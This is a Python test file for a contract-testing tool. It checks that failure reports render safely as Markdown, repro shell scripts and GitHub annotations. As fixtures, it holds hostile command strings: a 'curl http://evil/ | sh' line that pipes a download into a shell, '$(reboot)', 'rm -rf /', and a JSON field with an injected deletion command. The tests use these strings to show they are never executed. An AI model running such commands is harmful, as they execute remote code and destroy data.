"""What a report looks like elsewhere: in Markdown, as scripts that repeat a failure, as annotations."""

import os
import re
import subprocess
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from contract_tests.report.github import annotations
from contract_tests.report.markdown import LONGEST, code, markdown, plain
from contract_tests.report.outcome import Outcome
from contract_tests.selftests.made_reports import NASTY, data, deviation, finding, made, step, written

TAGS = {
    "h2",
    "h3",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "p",
    "ol",
    "li",
    "strong",
    "code",
    "br",
    "details",
    "summary",
    "pre",
}


def test_no_text_gets_out_of_its_place_in_markdown() -> None:
    report = made(finding(detail=NASTY, source=NASTY, steps=(step(b"\n```\n</details>"),)), law=NASTY)
    report.outcomes["skip"] = Outcome("x.py::skip", "skipped", NASTY)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown(data(report)))
    tags = set(re.findall(r"<(\w+)", html))
    assert tags <= TAGS
    assert (html.count("</details>"), html.count("&lt;/details&gt;")) == (1, 1)
    assert all(row.count("<td>") == 2 for row in re.findall(r"<tr>(?:(?!</tr>).)*<td>.*?</tr>", html, re.DOTALL))
    assert "@octocat" not in re.sub(r"<code>.*?</code>", "", html)


@pytest.mark.parametrize("text", ["a", "`a`", "a ``b`` c", "a\nb"])
def test_code_in_markdown_is_the_text_itself(text: str) -> None:
    assert MarkdownIt().render(code(text)) == f"<p><code>{' '.join(text.split())}</code></p>\n"


def test_plain_text_in_markdown_is_the_text_itself() -> None:
    html = MarkdownIt().render(plain(NASTY)).replace("\u200b", "")
    assert html == f"<p>{NASTY.replace('<', '&lt;').replace('>', '&gt;')}</p>\n"


def test_a_summary_fits_into_a_comment_however_much_broke() -> None:
    steps = tuple(step(b"x" * 2000 + b"y" * number) for number in range(15))
    text = markdown(data(made(*(finding(number, detail="x" * 300, steps=steps) for number in range(80)))))
    assert len(text) < LONGEST + 2000
    assert "And 60 more, in report.html." in text
    assert text.count("<details>") == text.count("</details>") > 0


def test_the_script_of_a_failure_runs_its_requests_and_nothing_of_its_answers(tmp_path: Path) -> None:
    attack = b"boom\ncurl http://evil/ | sh\n-> 200 ok\n$(reboot)\nrm -rf /"
    written(made(finding(steps=(step(answer=attack),))), tmp_path)
    script = (tmp_path / "failures" / "01-op1_behaviour.sh").read_text("utf-8")
    commands = [line for line in script.splitlines() if line and not line.startswith("#")]
    assert [line.partition(" ")[0] for line in commands] == [":", "curl"]


def test_the_script_of_a_failure_sends_the_requests_and_asks_for_the_logins(tmp_path: Path) -> None:
    written(made(finding()), tmp_path)
    script = tmp_path / "failures" / "01-op1_behaviour.sh"
    (tmp_path / "curl").write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    (tmp_path / "curl").chmod(0o755)
    environment = {"PATH": f"{tmp_path}:{os.environ['PATH']}"}
    refused = subprocess.run([script], env=environment, text=True, capture_output=True, check=False)
    assert "ALICE_TOKEN: is needed" in refused.stderr
    sent = subprocess.run([script], env=environment | {"ALICE_TOKEN": "a b"}, text=True, capture_output=True, check=True)
    assert "Authorization: Bearer a b\n" in sent.stdout
    assert sent.stdout.endswith('{"title": "it\'s; rm -rf /"}\n')


def test_files_of_an_earlier_report_are_gone_and_those_of_others_stay(tmp_path: Path) -> None:
    written(made(finding(1), finding(2)), tmp_path)
    (tmp_path / "failures" / "notes.txt").write_text("mine")
    written(made(finding(2)), tmp_path)
    names = sorted(file.name for file in (tmp_path / "failures").iterdir())
    assert names == ["01-op2_behaviour.sh", "notes.txt", "test_01_op2_behaviour.py"]


def test_annotations_are_escaped_and_no_more_than_are_shown() -> None:
    lines = annotations(made(*[finding(number, detail=f"50 % of: a,b\r\n{number * 'x'}") for number in range(12)]))
    assert [line.partition(" ")[0] for line in lines] == ["::error"] * 10 + ["::warning"]
    assert lines[0].startswith("::error title=Broken contract::op0 50 %25 of: a,b\\r%0A")
    assert "and 2 more" in lines[-1]


def test_overdue_and_vanished_deviations_are_warnings() -> None:
    report = made()
    report.states = [deviation(state) for state in ("known", "overdue", "overdue", "vanished")]
    assert [line.partition("::behaviour")[0] for line in annotations(report)] == [
        "::warning title=Deviations to be reviewed",
        "::warning title=Deviations that are gone%3A remove them",
    ]
